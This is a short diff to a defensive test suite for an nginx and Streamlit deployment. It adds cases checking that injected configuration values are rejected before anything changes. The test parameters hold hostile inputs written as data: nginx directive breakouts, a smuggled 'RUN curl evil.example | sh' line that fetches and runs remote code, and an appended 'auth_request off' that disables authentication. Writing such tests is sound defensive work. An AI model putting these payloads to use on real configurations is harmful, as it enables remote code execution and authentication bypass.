@@ -387,6 +387,9 @@ def test_3_dns_rebinding_gets_no_app(deployed):
     ("nginx_location_proxy_timeout", "1d\n"),
     ("nginx_location_extra_directives", ["add_header X-A 1; } location /pwn { return 200 pwned;"]),
     ("streamlit_version", "1.67.0\nRUN curl evil.example | sh"),
+    ("nginx_location_auth_url", "http://auth.example/oauth2/auth; auth_request off"),
+    # Identity headers without a sign-in: the children (changed first) refuse too, not only the masters.
+    ("streamlit_trusted_user_headers", {"X-Auth-Request-Email": "email"}),
 ])
 def test_4_injected_directives_fail_before_any_change(host, site, deployed, variable, value):
     before = host.check_output(NGINX_FILES)
